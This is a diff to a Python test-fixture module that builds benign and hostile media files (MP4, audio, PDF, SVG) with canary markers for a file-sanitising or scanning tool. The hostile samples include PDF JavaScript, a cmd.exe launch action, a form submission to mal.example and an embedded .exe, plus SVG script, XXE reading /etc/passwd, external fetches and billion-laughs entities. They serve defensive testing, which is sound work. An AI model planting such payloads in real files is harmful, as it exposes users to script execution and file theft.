@@ -1,9 +1,14 @@
-"""Pictures, good and hostile, made here so that nothing hostile is ever committed."""
+"""Files, good and hostile, made here so that nothing hostile is ever committed."""
 
 import struct
 import zlib
+from collections.abc import Callable
+from fractions import Fraction
 from io import BytesIO
+from typing import Any
 
+import av
+import pikepdf
 from PIL import ExifTags, Image, ImageCms, ImageDraw, PngImagePlugin
 
 CANARIES = (
@@ -102,3 +107,137 @@ def with_red_and_green_swapped() -> bytes:
 SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
 HTML = b"<!DOCTYPE html><html><body>" + SCRIPT
 PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"
+
+
+def film(codec: str = "libx264", seconds: int = 1) -> bytes:
+    """A small MP4 that tells where it was made, with a page of HTML in a box of its own."""
+    written = BytesIO()
+    with av.open(written, "w", format="mp4") as packed:
+        packed.metadata.update(
+            {"comment": "CANARY-COMMENT", "location": "+19.4+99.1/", "title": "CANARY-TEXT"}
+        )
+        stream: Any = packed.add_stream(codec, rate=10)
+        stream.width, stream.height, stream.pix_fmt = 160, 120, "yuv420p"
+        for n in range(10 * seconds):
+            frame = av.VideoFrame(160, 120, "yuv420p")
+            for plane in frame.planes:
+                plane.update(bytes([n * 8 % 256]) * plane.buffer_size)
+            frame.pts = n
+            packed.mux(stream.encode(frame))
+        packed.mux(stream.encode(None))
+    more = b"free" + b"CANARY-TRAILER" + SCRIPT
+    return written.getvalue() + (len(more) + 4).to_bytes(4, "big") + more
+
+
+_SAMPLES = {"libmp3lame": "s16p", "aac": "fltp", "pcm_s16le": "s16", "libopus": "s16"}
+
+
+def sound(kind: str = "mp3", codec: str = "libmp3lame") -> bytes:
+    """Half a second of silence with tags, and a page of HTML behind its end."""
+    written = BytesIO()
+    with av.open(written, "w", format=kind) as packed:
+        packed.metadata.update({"title": "CANARY-TEXT", "comment": "CANARY-COMMENT"})
+        stream: Any = packed.add_stream(codec, rate=48000, layout="mono")
+        size = stream.codec_context.frame_size or 1024
+        for n in range(20):
+            frame = av.AudioFrame(format=_SAMPLES[codec], layout="mono", samples=size)
+            frame.sample_rate, frame.pts, frame.time_base = 48000, n * size, Fraction(1, 48000)
+            for plane in frame.planes:
+                plane.update(bytes(plane.buffer_size))
+            packed.mux(stream.encode(frame))
+        packed.mux(stream.encode(None))
+    return written.getvalue() + b"CANARY-TRAILER" + SCRIPT
+
+
+def document(*changes: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:  # noqa: ANN401 -- options of its own
+    """A PDF of one page that tells who made it, changed as asked, with a page of HTML behind its end."""
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    pdf.docinfo["/Author"] = "CANARY-TEXT"
+    with pdf.open_metadata() as told:
+        told["dc:title"] = "CANARY-XMP"
+    for change in changes:
+        change(pdf)
+    written = BytesIO()
+    pdf.save(written, **options)
+    return written.getvalue() + b"CANARY-TRAILER" + SCRIPT
+
+
+def _acting(pdf: pikepdf.Pdf, place: str, **action: Any) -> None:  # noqa: ANN401 -- a dictionary of any values
+    pdf.Root[place] = pikepdf.Dictionary(**action)
+
+
+def _annotated(pdf: pikepdf.Pdf, **about: Any) -> None:  # noqa: ANN401 -- same
+    mark = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **about)
+    pdf.pages[0].obj["/Annots"] = pikepdf.Array([mark])
+
+
+def _script(pdf: pikepdf.Pdf) -> None:
+    _acting(pdf, "/OpenAction", S=pikepdf.Name.JavaScript, JS="app.alert(1)")
+
+
+def _launch(pdf: pikepdf.Pdf) -> None:
+    _annotated(pdf, Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"))
+
+
+def _sending(pdf: pikepdf.Pdf) -> None:
+    _annotated(
+        pdf,
+        Subtype=pikepdf.Name.Link,
+        A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://mal.example"),
+    )
+
+
+def _chained(pdf: pikepdf.Pdf) -> None:
+    after = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
+    _acting(pdf, "/OpenAction", S=pikepdf.Name.URI, URI="https://inai.org.mx", Next=pikepdf.Array([after]))
+
+
+def _form(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Stream(pdf, b"<xdp/>"), Fields=pikepdf.Array([]))
+
+
+def _carrying(pdf: pikepdf.Pdf) -> None:
+    pdf.attachments["factura.exe"] = b"MZ"
+
+
+ACTIVE_PDFS: dict[str, tuple[bytes, str]] = {
+    "script": (document(_script), "pdf_active"),
+    "launch": (document(_launch), "pdf_active"),
+    "submit": (document(_sending), "pdf_active"),
+    "next": (document(_chained), "pdf_active"),
+    "xfa": (document(_form), "pdf_active"),
+    "attachment": (document(_carrying), "pdf_holds_files"),
+    "locked": (document(encryption=pikepdf.Encryption(owner="a", user="b")), "pdf_locked"),
+    "broken": (PDF, "pdf_unreadable"),
+}
+_NS = b"xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' viewBox='0 0 40 20'"
+
+
+def drawn(inside: bytes, before: bytes = b"") -> bytes:
+    """An SVG with these elements in it."""
+    return (
+        before
+        + b"<svg "
+        + _NS
+        + b"><!-- CANARY-COMMENT --><metadata>CANARY-TEXT</metadata>"
+        + inside
+        + b"</svg>"
+    )
+
+
+HOSTILE_SVGS: dict[str, tuple[bytes, str]] = {
+    "onload": (SVG, "svg_active"),
+    "script": (drawn(b"<script>alert(1)</script>"), "svg_active"),
+    "foreign": (drawn(b"<foreignObject><p>hola</p></foreignObject>"), "svg_active"),
+    "link": (drawn(b"<a xlink:href='javascript:alert(1)'><rect width='9' height='9'/></a>"), "svg_active"),
+    "file": (drawn(b"<image xlink:href='/etc/hostname'/>"), "svg_outside"),
+    "net": (drawn(b"<image href='https://mal.example/a.png'/>"), "svg_outside"),
+    "nested": (drawn(b"<image href='data:image/svg+xml;base64,AAAA'/>"), "svg_outside"),
+    "sheet": (drawn(b"", b"<?xml-stylesheet href='https://mal.example/a.css'?>"), "svg_outside"),
+    "entity": (drawn(b"", b"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"), "svg_active"),
+    "laughs": (drawn(b"&b;", b"<!DOCTYPE svg [<!ENTITY a 'ja'><!ENTITY b '&a;&a;'>]>"), "svg_active"),
+    "text": (drawn(b"<text>SNT</text>"), "svg_text"),
+    "deep": (drawn(b"<g>" * 200 + b"</g>" * 200), "svg_heavy"),
+    "cut": (drawn(b"")[:-5], "svg_unreadable"),
+}
